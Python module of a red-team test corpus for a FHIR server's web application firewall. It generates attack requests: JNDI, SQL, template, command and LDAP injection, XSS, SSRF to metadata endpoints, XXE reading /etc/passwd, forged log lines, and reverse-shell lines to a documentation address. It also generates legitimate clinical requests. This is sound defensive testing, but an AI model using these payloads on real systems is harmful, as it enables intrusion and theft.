"""Corpus cases from the 2026-12 red-team review of the edge: the payload spellings and injection points the
first corpus lacked (attacks), and the clinical and protocol requests the edge refused (legitimate).

Attacks: JSON object keys whose value is a container (nothing but the key to inspect), SQL injection in free-text
fields, command and template spellings, the If-None-Exist header, headers other than User-Agent / Referer /
Cookie, administrative and bulk operations, path spellings of the FHIR base, more scanners, XML outside UTF-8 /
UTF-16, CR/LF that forges log lines. Legitimate: narrative and free text with clinical wording that looks like
code, FHIR media-type variants, raw Binary, XML Patch, SMART/OIDC loopback redirects (RFC 8252).

Payload addresses are RFC 5737 documentation addresses, link-local, loopback or lab addresses, as in
gen_attacks.py. Creates carry the suite's cleanup tag.
"""

from __future__ import annotations

import json
from urllib.parse import quote, urlencode

from fhirfort.suites.attack.gen_common import (
    CLEANUP_TAG,
    FJ,
    FX,
    XHTML_NS,
    Builder,
    dumps,
    narrative,
    observation,
    patient,
    search,
    tagged,
    xml_attr,
    xml_resource,
)

EVIL = "198.51.100.7"
JSON_PATCH = ("Content-Type", "application/json-patch+json")
FORM = ("Content-Type", "application/x-www-form-urlencoded")
# A line in the FHIR server's log format (what a forged entry would look like)
LOG_LINE = (
    "2026-12-07T16:40:00.000Z  INFO 59 --- [fhirfort-fhir-server] [exec-9] o.f.f.audit.AuditPipeline : FORGED-ENTRY"
)
TAG_JSON = json.dumps({"tag": [CLEANUP_TAG]}, separators=(",", ":"))


# ---------------------------------------------------------------------------------------------------- attacks


def _key_body(key_json: str, value_json: str, *, where: str = "top", resource: str = "Patient") -> str:
    """A FHIR JSON resource with one extra member `key_json: value_json` (both already JSON text, so a key can
    keep an escaped spelling such as \\u0024). `where`: top (a member of the resource), name (inside name[0])."""
    if where == "name":
        return (
            f'{{"resourceType":"{resource}","meta":{TAG_JSON},'
            f'"name":[{{"family":"Key",{key_json}:{value_json}}}],"gender":"unknown"}}'
        )
    return f'{{"resourceType":"{resource}","meta":{TAG_JSON},{key_json}:{value_json},"name":[{{"family":"Key"}}]}}'


def _jk(key: str) -> str:
    return json.dumps(key, ensure_ascii=False)


def json_keys(b: Builder) -> None:
    """Attack text in JSON object keys whose value is {} / [] / nested containers: no scalar leaf, so a WAF that
    inspects argument values (and names only of scalar leaves) never sees the key. HAPI logs unknown element
    names, which is where a JNDI lookup or a forged line would land."""
    jndi_key = f"${{jndi:ldap://{EVIL}/a}}"
    cases: list[tuple[str, str, str, str, str, str]] = [
        # class, key (JSON text), value, where, target, what
        ("jndi", _jk(jndi_key), "{}", "top", "{base}/Patient", "JNDI lookup as a JSON key (value {})"),
        (
            "jndi",
            _jk(jndi_key),
            "[]",
            "name",
            "{base}/Patient/$validate",
            "JNDI lookup as a key inside name[0] (value [])",
        ),
        (
            "jndi",
            f'"\\u0024{{jndi:ldap://{EVIL}/a}}"',
            "{}",
            "top",
            "{base}/Patient",
            "JNDI lookup as a JSON key, $ spelled \\u0024 (value {})",
        ),
        (
            "jndi",
            f'"\\u0024\\u007bjndi:ldap://{EVIL}/a\\u007d"',
            "[{}]",
            "top",
            "{base}/Patient/$validate",
            "JNDI lookup as a JSON key, ${ and } spelled \\u0024\\u007b \\u007d (value [{}])",
        ),
        (
            "sqli_json",
            _jk("' UNION SELECT password FROM users--"),
            "{}",
            "top",
            "{base}/Patient/$validate",
            "SQLi as a JSON key (value {})",
        ),
        (
            "sqli_json",
            _jk("x' OR '1'='1"),
            "[{}]",
            "name",
            "{base}/Patient",
            "SQLi as a key inside name[0] (value [{}])",
        ),
        ("xss_string", _jk("<script>alert(1)</script>"), "{}", "top", "{base}/Patient", "XSS as a JSON key (value {})"),
        (
            "xss_string",
            _jk("<img src=x onerror=alert(1)>"),
            "[]",
            "top",
            "{base}/Patient/$validate",
            "XSS as a JSON key (value [])",
        ),
        ("ssti", _jk("{{7*7}}"), "{}", "top", "{base}/Patient", "template expression as a JSON key (value {})"),
        (
            "ssti",
            _jk("%{7*7}"),
            '{"a":{}}',
            "top",
            "{base}/Patient/$validate",
            'OGNL-style expression as a JSON key (value {"a":{}})',
        ),
        (
            "cmd_injection",
            _jk("; cat /etc/passwd"),
            "{}",
            "top",
            "{base}/Patient",
            "shell command as a JSON key (value {})",
        ),
        (
            "cmd_injection",
            _jk(";/???/??t /???/p??s??"),
            "[[]]",
            "name",
            "{base}/Patient/$validate",
            "globbed shell command as a key inside name[0] (value [[]])",
        ),
        (
            "path_traversal",
            _jk("../../../../etc/passwd"),
            "{}",
            "top",
            "{base}/Patient",
            "traversal as a JSON key (value {})",
        ),
        (
            "ssrf",
            _jk("http://169.254.169.254/latest/meta-data/"),
            "{}",
            "top",
            "{base}/Patient/$validate",
            "metadata URL as a JSON key (value {})",
        ),
        (
            "ldap_injection",
            _jk("*)(uid=*))(|(uid=*"),
            "{}",
            "top",
            "{base}/Patient",
            "LDAP filter as a JSON key (value {})",
        ),
        (
            "nosql_injection",
            '"\\u0024where"',
            "{}",
            "top",
            "{base}/Patient",
            "MongoDB $where as a JSON key spelled \\u0024where (value {})",
        ),
    ]
    for cls, key, value, where, target, what in cases:
        b.add(cls, "POST", target, headers=[FJ], body=_key_body(key, value, where=where), note=what)
    # the same blind spot one level down: a resource inside Parameters and inside a transaction Bundle
    inner = json.loads(_key_body(_jk(jndi_key), "{}"))
    params = {"resourceType": "Parameters", "parameter": [{"name": "resource", "resource": inner}]}
    b.add(
        "jndi",
        "POST",
        "{base}/Patient/$validate",
        headers=[FJ],
        body=dumps(params),
        note="JNDI lookup as a JSON key of the resource inside a $validate Parameters body (value {})",
    )
    inner = json.loads(_key_body(_jk("' OR 1=1--"), "[]"))
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [{"resource": inner, "request": {"method": "POST", "url": "Patient"}}],
    }
    b.add(
        "sqli_json",
        "POST",
        "{base}",
        headers=[FJ],
        body=dumps(bundle),
        note="SQLi as a JSON key of a resource inside a transaction Bundle (value [])",
    )


SQLI_FREE_TEXT = [
    "1' ORDER BY 10--",
    "1' GROUP BY 1--",
    "' OR 0x31=0x31--",
    "' OR char(49)=char(49)--",
    "' OR 2>1--",
    "1' AND 1=(SELECT 1)--",
    "' or exists(select 1)--",
    "1' AND ASCII(SUBSTRING(user,1,1))>64--",
    "1'='1",
    "'=' 'or' and '=' 'or'",
    "1 AND 1=1",
]


def _free_text_slot(i: int, p: str) -> tuple[str, str, str]:
    """(target, body, where) for the i-th free-text field: the places FHIR keeps prose."""
    slot = i % 6
    if slot == 0:
        return "{base}/Observation", dumps(observation(p)), "Observation.valueString"
    if slot == 1:
        return "{base}/Observation", dumps(observation("see note", note=[{"text": p}])), "Observation.note[].text"
    if slot == 2:
        obs = observation("x")
        obs["code"] = {"coding": [{"system": "http://loinc.org", "code": "8302-2"}], "text": p}
        return "{base}/Observation", dumps(obs), "Observation.code.text"
    if slot == 3:
        obs = observation("x")
        obs["code"] = {"coding": [{"system": "http://loinc.org", "code": "8302-2", "display": p}]}
        return "{base}/Observation", dumps(obs), "Observation.code.coding[].display"
    if slot == 4:
        doc = tagged(
            {
                "resourceType": "DocumentReference",
                "status": "current",
                "subject": {"reference": "Patient/p-obrien"},
                "description": p,
                "content": [{"attachment": {"contentType": "text/plain", "title": "note.txt"}}],
            }
        )
        return "{base}/DocumentReference", dumps(doc), "DocumentReference.description"
    appt = tagged(
        {
            "resourceType": "Appointment",
            "status": "proposed",
            "comment": p,
            "participant": [{"actor": {"reference": "Patient/p-obrien"}, "status": "needs-action"}],
        }
    )
    return "{base}/Appointment/$validate", dumps(appt), "Appointment.comment ($validate)"


def sqli_free_text(b: Builder) -> None:
    """SQL injection spellings CRS scores low (tautologies, ORDER/GROUP BY probes, char()/hex comparisons) in the
    free-text fields, where the kit relaxes rules for clinical prose."""
    for i, p in enumerate(SQLI_FREE_TEXT):
        target, body, where = _free_text_slot(i, p)
        b.add("sqli_json", "POST", target, headers=[FJ], body=body, note=f"SQLi in {where}")
    xml_cases = [
        ('<valueString value="1&apos; ORDER BY 10--"/>', "valueString, &apos; spelling"),
        ('<valueString value="x"/><note><text value="&apos; OR 0x31=0x31--"/></note>', "note.text, &apos; spelling"),
        ('<valueString value="1&#39;=&#39;1"/>', "valueString, &#39; spelling"),
    ]
    for inner, what in xml_cases:
        body = xml_resource(
            "Observation",
            '<status value="final"/><code><text value="Note"/></code>'
            f'<subject><reference value="Patient/p-obrien"/></subject>{inner}',
        )
        b.add("sqli_json", "POST", "{base}/Observation", headers=[FX], body=body, note=f"SQLi in FHIR XML ({what})")


CMD_PAYLOADS = [
    "|id",
    "&id",
    "\nid",
    "\n/bin/id",
    ";{id}",
    ";i''d",
    ";i\\d",
    ";/???/??t /???/p??s??",
    "; mkfifo /tmp/f",
    f"; busybox nc {EVIL} 4444 -e sh",
    "; getent passwd",
    f"; socat tcp:{EVIL}:4444 exec:sh",
    "cmd.exe /c dir",
    "& net user",
    "& whoami",
    "; ID",
]
STRING_POINTS = [
    ("Patient", "name"),
    ("Patient", "family"),
    ("Patient", "address"),
    ("Patient", "given"),
    ("Patient", "address-city"),
    ("Observation", "value-string"),
    ("Practitioner", "name"),
    ("Patient", "address-state"),
    ("Organization", "name"),
]


def _string_body(i: int, p: str) -> tuple[str, str, str]:
    """(target, body, where) for string fields of a create (or a $validate that stores nothing)."""
    slot = i % 5
    if slot == 0:
        return "{base}/Patient", dumps(patient(p)), "name.family"
    if slot == 1:
        return "{base}/Observation", dumps(observation(p)), "valueString"
    if slot == 2:
        return "{base}/Observation", dumps(observation("see note", note=[{"text": p}])), "note[].text"
    if slot == 3:
        return "{base}/Patient", dumps(patient("Test", address=[{"line": [p], "city": "Dublin"}])), "address.line"
    body = patient("Test", telecom=[{"system": "email", "value": p}])
    params = {"resourceType": "Parameters", "parameter": [{"name": "resource", "resource": body}]}
    return "{base}/Patient/$validate", dumps(params), "telecom.value in a $validate Parameters body"


def _readable(p: str) -> str:
    return p.replace("\n", "\\n")


def cmd_spellings(b: Builder) -> None:
    """Short shell payloads (|id, &id, newline id), brace/quote/backslash/glob evasions, less common binaries
    (mkfifo, busybox, getent, socat), Windows commands, upper case."""
    for i, p in enumerate(CMD_PAYLOADS):
        res, param = STRING_POINTS[i % len(STRING_POINTS)]
        b.add(
            "cmd_injection",
            "GET",
            search(res, [(param, p)]),
            note=f"command injection {_readable(p)} in {res}?{param}",
        )
    for i, p in enumerate(CMD_PAYLOADS):
        target, body, where = _string_body(i, p)
        b.add(
            "cmd_injection",
            "POST",
            target,
            headers=[FJ],
            body=body,
            note=f"command injection {_readable(p)} in {where}",
        )
    for i, p in enumerate(["|id", ";/???/??t /???/p??s??", "\nid", "; mkfifo /tmp/f"]):
        v = xml_attr(p).replace("\n", "&#10;")
        if i % 2:
            inner = (
                '<status value="final"/><code><text value="Note"/></code>'
                f'<subject><reference value="Patient/p-obrien"/></subject><valueString value="{v}"/>'
            )
            body, target, where = xml_resource("Observation", inner), "{base}/Observation", "valueString"
        else:
            body, target, where = (
                xml_resource("Patient", f'<name><family value="{v}"/></name>'),
                "{base}/Patient",
                "name.family",
            )
        b.add(
            "cmd_injection",
            "POST",
            target,
            headers=[FX],
            body=body,
            note=f"command injection {_readable(p)} in an XML attribute ({where})",
        )


def if_none_exist(b: Builder) -> None:
    """The If-None-Exist header of a conditional create is a search query HAPI runs: payloads there reach the
    database like search parameters. `_id=p-obrien` matches a sample Patient, so nothing is created."""
    body = dumps(patient("IfNoneExist"))
    cases = [
        ("sqli_search", "_id=p-obrien&_tag:not=x%27%20OR%20%271%27%3D%271%20--", "SQLi (URL-encoded)"),
        ("sqli_search", "_id=p-obrien&family:not=x' OR '1'='1' --", "SQLi (not encoded)"),
        ("ssti", "_id=p-obrien&_tag:not=%7B%7B7*7%7D%7D", "template expression (URL-encoded)"),
        ("ssti", "_id=p-obrien&family:not={{7*7}}", "template expression (not encoded)"),
        ("format_confusion", "_id=p-obrien&_format=html", "_format=html"),
        ("cmd_injection", "_id=p-obrien&_tag:not=%3B%20cat%20%2Fetc%2Fpasswd", "shell command (URL-encoded)"),
        ("nosql_injection", "_id=p-obrien&name[$ne]=x", "MongoDB operator"),
        (
            "ssrf",
            "_id=p-obrien&general-practitioner:not=http://169.254.169.254/latest/meta-data/",
            "metadata URL",
        ),
    ]
    for cls, value, what in cases:
        b.add(
            cls,
            "POST",
            "{base}/Patient",
            headers=[FJ, ("If-None-Exist", value)],
            body=body,
            note=f"{what} in the If-None-Exist header of a conditional create",
        )


SSTI_SPELLINGS = [
    "%{7*7}",
    "{7*7}",
    "{$smarty.version}",
    "@(7*7)",
    "[=7*7]",
    "[#assign x=1]",
    "{{7*7",
    "${7*7",
    "<%= 7*7",
]
SSRF_SPELLINGS = [
    "ws://127.0.0.1:8443/",
    "redis://198.18.30.10:6379/",
    "postgresql://198.18.30.10:5432/fhir",
    "mysql://198.18.30.10:3306/fhir",
    "mongodb://198.18.30.10:27017/fhir",
    "http:\\\\127.0.0.1\\admin",
    "http:/\\127.0.0.1/",
    "//169.254.169.254/latest/meta-data/",
    "http://idp:8444/admin/",
    "http://fhir:8443/actuator/env",
    "http://kubernetes.default.svc/",
    "http://localtest.me/",
    "http://evil.example#@127.0.0.1/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
]
REFERENCE_POINTS = [
    ("Observation", "subject"),
    ("Encounter", "patient"),
    ("Observation", "patient"),
    ("Patient", "general-practitioner"),
    ("Observation", "performer"),
]


def _reference_body(i: int, url: str) -> tuple[str, str, str]:
    slot = i % 3
    if slot == 0:
        return "{base}/Observation", dumps(observation("x", subject=url)), "Observation.subject.reference"
    if slot == 1:
        body = patient("Test", generalPractitioner=[{"reference": url}])
        return "{base}/Patient", dumps(body), "Patient.generalPractitioner.reference"
    doc = tagged(
        {
            "resourceType": "DocumentReference",
            "status": "current",
            "subject": {"reference": "Patient/p-obrien"},
            "content": [{"attachment": {"contentType": "application/pdf", "url": url}}],
        }
    )
    return "{base}/DocumentReference", dumps(doc), "DocumentReference attachment.url"


def ssti_ssrf_spellings(b: Builder) -> None:
    """Template syntaxes beyond {{ }} / ${ } (OGNL %{ }, Smarty, Razor, FreeMarker square brackets, unclosed
    expressions) and SSRF URLs beyond http(s) to IP literals (other schemes, backslashes, scheme-relative, lab
    and cluster host names, wildcard-DNS loopback, fragment/userinfo confusion, enclosed alphanumerics)."""
    for i, p in enumerate([*SSTI_SPELLINGS, "#{7*7", "{{7*7}", '{@math key="1" method="add" operand="1"/}']):
        res, param = STRING_POINTS[i % len(STRING_POINTS)]
        b.add("ssti", "GET", search(res, [(param, p)]), note=f"template expression {p} in {res}?{param}")
    for i, p in enumerate(SSTI_SPELLINGS):
        target, body, where = _string_body(i, p)
        b.add("ssti", "POST", target, headers=[FJ], body=body, note=f"template expression {p} in {where}")
    for i, u in enumerate(SSRF_SPELLINGS):
        res, param = REFERENCE_POINTS[i % len(REFERENCE_POINTS)]
        b.add("ssrf", "GET", search(res, [(param, u)]), note=f"internal URL {u} as a reference search value")
    for i, u in enumerate(SSRF_SPELLINGS):
        target, body, where = _reference_body(i, u)
        b.add("ssrf", "POST", target, headers=[FJ], body=body, note=f"internal URL {u} in {where}")


def header_payloads(b: Builder) -> None:
    """Injection payloads in request headers other than User-Agent / Referer / Cookie (which CRS inspects by
    default), and command / template / SSRF payloads in User-Agent."""
    target = "{base}/Patient?_count=1"
    cases = [
        ("sqli_search", "X-Forwarded-For", "' OR '1'='1' --"),
        ("sqli_search", "X-Api-Version", "1' ORDER BY 10--"),
        ("sqli_search", "Origin", "' OR '1'='1' --"),
        ("sqli_search", "Accept-Language", "' OR '1'='1' --"),
        ("sqli_search", "X-Custom-Header", "1' ORDER BY 10--"),
        ("xss_string", "X-Forwarded-For", "<script>alert(1)</script>"),
        ("xss_string", "X-Api-Version", '"><img src=x onerror=alert(1)>'),
        ("xss_string", "Origin", "<script>alert(1)</script>"),
        ("xss_string", "Accept-Language", '"><img src=x onerror=alert(1)>'),
        ("xss_string", "X-Custom-Header", "<script>alert(1)</script>"),
        ("cmd_injection", "X-Forwarded-For", "; cat /etc/passwd"),
        ("cmd_injection", "X-Api-Version", "|/???/??t /???/p??s??"),
        ("cmd_injection", "Origin", "; cat /etc/passwd"),
        ("cmd_injection", "Accept-Language", "; cat /etc/passwd"),
        ("cmd_injection", "X-Custom-Header", "$(id)"),
        ("cmd_injection", "User-Agent", "; cat /etc/passwd"),
        ("cmd_injection", "User-Agent", "|/???/??t /???/p??s??"),
        ("ssti", "X-Forwarded-For", "{{7*7}}"),
        ("ssti", "X-Api-Version", "#{7*7}"),
        ("ssti", "Origin", "{{7*7}}"),
        ("ssti", "Accept-Language", "${7*7}"),
        ("ssti", "X-Custom-Header", "{{7*7}}"),
        ("ssti", "User-Agent", "{{7*7}}"),
        ("ssti", "User-Agent", "#{7*7}"),
        ("ssrf", "X-Forwarded-For", "http://169.254.169.254/latest/meta-data/"),
        ("ssrf", "X-Api-Version", "http://169.254.169.254/latest/meta-data/"),
        ("ssrf", "X-Custom-Header", "gopher://127.0.0.1:6379/_x"),
        ("ssrf", "User-Agent", "http://169.254.169.254/latest/meta-data/"),
    ]
    for cls, header, value in cases:
        b.add(cls, "GET", target, headers=[(header, value)], note=f"{value} in the {header} header")


def path_spellings(b: Builder) -> None:
    """Spellings of the FHIR base that nginx normalises but a rule scoped to `^/fhir/` does not match (doubled
    or dot segments, an encoded first slash), and encoded slash / backslash inside FHIR paths."""
    b.add(
        "ssti",
        "GET",
        "/{base}/Patient?name=%7B%7B7%2A7%7D%7D",
        note="template expression under a doubled leading slash (//fhir/...)",
    )
    b.add(
        "cmd_injection",
        "GET",
        "/.{base}/Patient?name=" + quote(";/???/??t /???/p??s??", safe=""),
        note="command injection under a leading dot segment (/./fhir/...)",
    )
    b.add(
        "sqli_search",
        "GET",
        "//{base}//Patient?name=" + quote("x' OR '1'='1", safe=""),
        note="SQLi under a tripled leading slash and a doubled inner slash (///fhir//Patient)",
    )
    b.add(
        "ssti",
        "GET",
        "/%2Ffhir/Patient?name=%7B%7B7%2A7%7D%7D",
        note="template expression under an encoded first slash (/%2Ffhir/...; assumes the /fhir base)",
    )
    b.add("path_traversal", "GET", "{base}/Patient%5cp-obrien", note="encoded backslash in a FHIR path")
    b.add("path_traversal", "GET", "{base}/Patient%2Fp-obrien", note="encoded slash in a FHIR path")
    b.add(
        "path_traversal",
        "GET",
        "{base}/Patient/file:%2f%2f%2fetc%2fpasswd",
        note="file: URL with encoded slashes as a resource id",
    )


def more_scanners(b: Builder) -> None:
    agents = [
        "DirB/2.22",
        "OWASP ZAP/2.14",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 ZAP/2.14",
        "Wapiti/3.1.8 (wapiti-scanner.github.io)",
        "BurpSuite",
        "Mozilla/4.0 (Hydra)",
        "katana",
        "httpx - Open-source project (github.com/projectdiscovery/httpx)",
        "Xenu Link Sleuth/1.3.8",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    ]
    for ua in agents:
        b.add(
            "scanner", "GET", "{base}/Patient?_count=1", headers=[("User-Agent", ua)], note=f"scanner User-Agent {ua}"
        )
    webinspect = [
        ("X-Wipp", "wipp"),
        ("X-Scan-Memo", 'Category="Audit.Attack"; SID="0"; SessionType="AuditAttack"; Engine="Request+Modify"'),
        ("X-Request-Memo", 'ID="0"; tid="1";'),
    ]
    for name, value in webinspect:
        b.add("scanner", "GET", "{base}/Patient?_count=1", headers=[(name, value)], note=f"WebInspect header {name}")


def xml_outside(b: Builder) -> None:
    """XInclude in the default namespace (no xi: prefix to match) and an xml-stylesheet processing instruction
    naming an external stylesheet."""

    def pat(extra: str = "", prolog: str = "") -> str:
        return (
            f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<Patient xmlns="http://hl7.org/fhir">'
            '<meta><tag><system value="https://fhirfort.test/tags"/><code value="attack-suite"/></tag></meta>'
            f'{extra}<name><family value="Xml"/></name></Patient>'
        )

    b.add(
        "xxe",
        "POST",
        "{base}/Patient",
        headers=[FX],
        body=pat('<include xmlns="http://www.w3.org/2001/XInclude" href="https://evil.example/x.xml"/>'),
        note="XInclude in the default namespace (remote href)",
    )
    b.add(
        "xxe",
        "POST",
        "{base}/Patient",
        headers=[FX],
        body=pat('<include xmlns="http://www.w3.org/2001/XInclude" href="x.xml" parse="text"/>'),
        note="XInclude in the default namespace (relative href, parse=text)",
    )
    b.add(
        "xxe",
        "POST",
        "{base}/Patient",
        headers=[FX],
        body=pat(prolog=f'<?xml-stylesheet type="text/xsl" href="http://{EVIL}/x.xsl"?>'),
        note="xml-stylesheet processing instruction with a remote XSLT",
    )
    b.add(
        "xxe",
        "POST",
        "{base}/Patient",
        headers=[FX],
        body=pat(prolog=f'<?xml-stylesheet type="text/css" href="//{EVIL}/x.css"?>'),
        note="xml-stylesheet processing instruction with a scheme-relative URL",
    )


def batch_entries(b: Builder) -> None:
    bundle = {
        "resourceType": "Bundle",
        "type": "batch",
        "entry": [{"request": {"method": "GET", "url": "Patient?_format=html"}}],
    }
    b.add(
        "format_confusion",
        "POST",
        "{base}",
        headers=[FJ],
        body=dumps(bundle),
        note="_format=html in the url of a batch entry",
    )


def admin_operations(b: Builder) -> None:
    """Administrative and bulk operations of HAPI that the kit does not offer: the edge refuses them (405 from
    HAPI's DisabledOperationsInterceptor or a 403 from the resource server is defence in depth, not a
    refusal). Bodies never ask for expungeEverything or a real import: a miss must not damage the lab."""
    empty = dumps({"resourceType": "Parameters"})
    posts = [
        ("{base}/$expunge", "system $expunge"),
        ("{base}/$EXPUNGE", "system $expunge, upper case"),
        ("{base}/%24expunge", "system $expunge, $ percent-encoded"),
        ("{base}/Patient/p-obrien/$expunge", "instance $expunge"),
        ("{base}/$delete-expunge", "$delete-expunge"),
        ("{base}/$reindex", "$reindex"),
        ("{base}/$mark-all-resources-for-reindexing", "$mark-all-resources-for-reindexing"),
        ("{base}/$perform-reindexing-pass", "$perform-reindexing-pass"),
        ("{base}/$reindex-terminology", "$reindex-terminology"),
        ("{base}/$import", "bulk $import"),
        ("{base}/$hapi.fhir.replace-references", "$hapi.fhir.replace-references"),
        ("{base}/Patient/$merge", "Patient $merge"),
        ("{base}/$upload-external-code-system", "$upload-external-code-system"),
    ]
    for target, what in posts:
        b.add("admin_operation", "POST", target, headers=[FJ], body=empty, note=f"{what} (POST)")
    gets = [
        ("{base}/$Expunge", "system $expunge, mixed case (GET)"),
        ("{base}/$export", "system bulk $export"),
        ("{base}/Patient/$export", "Patient bulk $export"),
        ("{base}/Group/g-all/$export", "Group bulk $export"),
        ("{base}/$export-poll-status?_jobId=1", "bulk export status"),
        ("{base}/$get-resource-counts", "$get-resource-counts"),
        ("{base}/_history", "system-level _history (every resource of every type)"),
        ("{base}/$graphql?" + urlencode({"query": "{PatientList{id name{family}}}"}), "$graphql (GET)"),
        ("{base}/$diff?" + urlencode({"from": "Patient/p-obrien", "to": "Patient/p-smith-jones"}), "system $diff"),
        ("{base}/Patient/p-obrien/$diff", "instance $diff"),
    ]
    for target, what in gets:
        b.add("admin_operation", "GET", target, note=what)
    b.add(
        "admin_operation",
        "POST",
        "{base}/$graphql",
        headers=[("Content-Type", "application/json")],
        body=json.dumps({"query": "{PatientList{id name{family}}}"}),
        note="$graphql (POST)",
    )
    bundle = {
        "resourceType": "Bundle",
        "type": "batch",
        "entry": [
            {"request": {"method": "GET", "url": "$get-resource-counts"}},
            {"request": {"method": "GET", "url": "_history"}},
        ],
    }
    b.add(
        "admin_operation",
        "POST",
        "{base}",
        headers=[FJ],
        body=dumps(bundle),
        note="$get-resource-counts and system _history inside a batch Bundle",
    )


def log_injection(b: Builder) -> None:
    """CR/LF where no FHIR value has one (element names, resource types, search parameter names, ids, header
    values, JSON Patch paths): HAPI logs unknown element names and failing parameters, so the line break starts
    a forged log entry."""
    lf_key = _jk("x\n" + LOG_LINE)
    cases = [
        (lf_key, "{}", "top", "{base}/Patient/$validate", "LF + a forged log line in a JSON key (value {})"),
        (_jk("x\r\n" + LOG_LINE), "{}", "top", "{base}/Patient", "CRLF + a forged log line in a JSON key (value {})"),
        ('"x\\u000a' + LOG_LINE + '"', "{}", "top", "{base}/Patient", "LF spelled \\u000a in a JSON key (value {})"),
        (_jk("x\r" + LOG_LINE), "[]", "top", "{base}/Patient/$validate", "bare CR + a forged log line in a JSON key"),
        (lf_key, "[]", "name", "{base}/Patient", "LF + a forged log line in a key inside name[0] (value [])"),
        (
            _jk("x\n" + LOG_LINE),
            '"x"',
            "top",
            "{base}/Patient/$validate",
            "LF + a forged log line in a JSON key (value a string)",
        ),
    ]
    for key, value, where, target, what in cases:
        b.add("log_injection", "POST", target, headers=[FJ], body=_key_body(key, value, where=where), note=what)
    inner = json.loads(_key_body(lf_key, "{}"))
    params = {"resourceType": "Parameters", "parameter": [{"name": "resource", "resource": inner}]}
    b.add(
        "log_injection",
        "POST",
        "{base}/Patient/$validate",
        headers=[FJ],
        body=dumps(params),
        note="LF + a forged log line in a JSON key of the resource inside Parameters",
    )
    inner = json.loads(_key_body(lf_key, "{}"))
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [{"resource": inner, "request": {"method": "POST", "url": "Patient"}}],
    }
    b.add(
        "log_injection",
        "POST",
        "{base}",
        headers=[FJ],
        body=dumps(bundle),
        note="LF + a forged log line in a JSON key of a resource inside a transaction Bundle",
    )
    body = '{"resourceType":' + _jk("Patient\n" + LOG_LINE) + ',"name":[{"family":"Key"}]}'
    b.add(
        "log_injection",
        "POST",
        "{base}/Patient",
        headers=[FJ],
        body=body,
        note="LF + a forged log line in resourceType",
    )
    forged = quote(LOG_LINE, safe="")
    b.add(
        "log_injection",
        "GET",
        f"{{base}}/Patient?x%0A{forged}=1",
        note="LF + a forged log line in a search parameter name",
    )
    b.add("log_injection", "GET", f"{{base}}/Patient?_id=x%0D%0A{forged}", note="CRLF + a forged log line in _id")
    b.add(
        "log_injection",
        "POST",
        "{base}/Patient",
        headers=[FJ, ("If-None-Exist", f"identifier=x%0D%0A{forged}")],
        body=dumps(patient("IfNoneExist")),
        note="URL-encoded CRLF + a forged log line in If-None-Exist",
    )
    b.add(
        "log_injection",
        "PATCH",
        "{base}/Patient/p-obrien",
        headers=[JSON_PATCH],
        body=json.dumps([{"op": "test", "path": "/x\n" + LOG_LINE, "value": 1}]),
        note="LF + a forged log line in a JSON Patch path (op test: changes nothing)",
    )


def xml_ebcdic(b: Builder) -> None:
    """DOCTYPE and entities in an EBCDIC (IBM037) body, the charset named only in the XML declaration: an
    inspector that reads the body as ASCII/UTF-8 sees no `<!DOCTYPE`. The bytes are generated at run time
    (body_gen encoded_text): EBCDIC text cannot live in a JSON Lines file read line by line (0x85 is NEL)."""
    head = '<?xml version="1.0" encoding="IBM037"?>\n'
    pat = '<Patient xmlns="http://hl7.org/fhir"><name><family value="{v}"/></name></Patient>'
    docs = [
        (
            '<!DOCTYPE Patient [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n',
            "&b;",
            "internal entities",
        ),
        (f'<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "http://{EVIL}/x">]>\n', "&xxe;", "external entity"),
        ('<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;", "local file entity"),
        (
            '<!DOCTYPE Patient [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n',
            "&d;",
            "entity expansion",
        ),
    ]
    for doctype, ref, what in docs:
        text = head + doctype + pat.format(v=ref)
        b.add(
            "xxe",
            "POST",
            "{base}/Patient",
            headers=[FX],
            body_gen={"kind": "encoded_text", "encoding": "cp037", "text": text},
            note=f"XXE in an EBCDIC (IBM037) body without a charset parameter: {what}",
        )


ATTACK_FAMILIES = (
    json_keys,
    sqli_free_text,
    cmd_spellings,
    if_none_exist,
    ssti_ssrf_spellings,
    header_payloads,
    path_spellings,
    more_scanners,
    xml_outside,
    batch_entries,
    admin_operations,
    log_injection,
    xml_ebcdic,
)


def attacks(b: Builder) -> None:
    for family in ATTACK_FAMILIES:
        family(b)


# ---------------------------------------------------------------------------------------------------- legitimate

CLINICAL_NARRATIVES = [
    # words that contain event-handler, CSS and data-URL shapes (on...=, expression(, behavior:, data:text/html)
    "<p>Symptom onset = 3 days ago</p>",
    "<p>Onset=acute</p>",
    "<p>Ongoing = yes</p>",
    "<p>HER2 overexpression (3+)</p>",
    "<p>Gene expression (BRCA1) low</p>",
    "<p>Mood: expression (flat affect)</p>",
    "<p><b>Behavior:</b> calm</p>",
    "<p>Data: text/html export of the discharge letter attached</p>",
    "<p>Chart migration: @import of outside records pending</p>",
    "<p>Pain onset=sudden while lifting; ongoing since</p>",
    "<table><tr><td>Behavior</td><td>Behavior: agitated at night (sundowning)</td></tr></table>",
    "<p>PD-L1 expression (TPS 60%)</p>",
    "<p>Facial expression(s) appropriate; speech normal</p>",
    "<ul><li>Onset = 2019</li><li>Online = yes (patient portal)</li></ul>",
    "<p>Alert rule: if (x &gt; 5) then notify; x = systolic - 140</p>",
    '<p>See <a href="https://intranet.hospital.local/policy">falls policy</a> &amp; leaflet</p>',
]
CLINICAL_FREE_TEXT = [
    'Pt reports "feeling dizzy"; update BP meds',
    'Patient said "no"; copy to PCP',
    "Portal enrolled; create user account tomorrow",
    'Take 1 tab of "Tylenol" or 2',
    "Diagnosis 'hypertension' #2",
    "Allergies: dust mites; cat",
